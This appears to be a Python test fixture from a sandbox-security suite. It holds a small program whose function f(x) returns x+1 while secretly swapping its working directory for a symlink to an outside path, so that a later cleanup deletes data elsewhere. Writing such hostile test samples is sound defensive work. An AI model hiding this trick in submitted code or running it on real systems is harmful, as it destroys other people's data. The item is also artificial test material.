"""Puts a link in the place of its own folder, so that whoever empties that next empties another."""

from hostile import Attack, Tier

PROGRAM = """
import os
def f(x):
    here = os.getcwd()
    try:
        os.rename(here, here + "-away")
        os.symlink("@OUTSIDE@", here)
    except OSError: pass
    return x + 1
"""

ATTACK = Attack(PROGRAM, tier=Tier.NONE, naive="emptying", works="touched", outcomes=("pass",))
